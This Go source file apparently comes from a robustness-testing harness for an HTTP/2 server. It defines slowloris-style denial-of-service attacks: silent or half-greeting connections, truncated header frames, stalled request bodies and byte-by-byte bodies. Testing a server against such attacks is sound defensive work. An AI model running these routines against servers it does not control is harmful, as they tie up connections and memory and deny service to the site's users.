package attacks

import (
	"io"

	"golang.org/x/net/http2"
)

// slow are the attacks that begin something and do not continue.
var slow = []Attack{
	{Name: "connections that say nothing", Run: func(a *Attacker) {
		for range 10 * manyConns {
			a.silent("")
		}
	}},
	{Name: "half a greeting", Run: func(a *Attacker) {
		for range 10 * manyConns {
			a.silent(http2.ClientPreface[:10])
		}
	}},
	{Name: "connections that only greet", Run: func(a *Attacker) {
		for range 10 * manyConns {
			a.open(Opening{})
		}
	}},
	{Name: "half a head", Run: func(a *Attacker) {
		for range 10 * manyConns {
			if c := a.open(Opening{}); c != nil {
				c.raw(http2.FrameHeaders, 0, stream(0), c.encode(pathAnonymous)[:4])
				c.flush()
			}
		}
	}},
	{Name: "half a frame", Run: func(a *Attacker) {
		for range 10 * manyConns {
			if c := a.open(Opening{}); c != nil {
				c.out.Write([]byte{0, 0x40, 0, byte(http2.FrameHeaders), 4, 0, 0, 0, 3})
				c.out.Write(make([]byte, 8000))
				c.flush()
			}
		}
	}},
	{Name: "bodies that do not go on", Run: func(a *Attacker) {
		for range 4 {
			c := a.open(Opening{})
			for i := 0; c != nil && i < manyStreams; i++ {
				c.head(stream(i), false, pathRead)
				_ = c.WriteData(stream(i), false, []byte("x"))
			}
			if c != nil {
				c.settle()
			}
		}
	}},
	{Name: "bodies that nobody reads", Run: func(a *Attacker) {
		for range 4 {
			c := a.open(Opening{})
			for i := 0; c != nil && i < manyStreams; i++ {
				c.head(stream(i), false, pathWait)
				if i < 60 { // the first window of a connection
					_ = c.WriteData(stream(i), false, make([]byte, 1000))
				}
			}
			if c != nil {
				c.settle()
			}
		}
	}},
	{Name: "bodies byte by byte", Run: func(a *Attacker) {
		a.spread(4, manyFrames, Opening{}, func(c *Conn, i int) {
			if i == 0 {
				c.head(stream(0), false, pathRead)
			}
			_ = c.WriteData(stream(0), false, []byte("x"))
			c.sent()
		})
	}},
}

// silent connects and sends less than a connection preface.
func (a *Attacker) silent(text string) {
	secure, err := a.tls()
	if err != nil {
		a.Refused.Add(1)
		return
	}
	c := &Conn{secure: secure, heard: make(chan struct{})}
	close(c.heard)
	a.keep(c)
	_, _ = io.WriteString(secure, text)
}
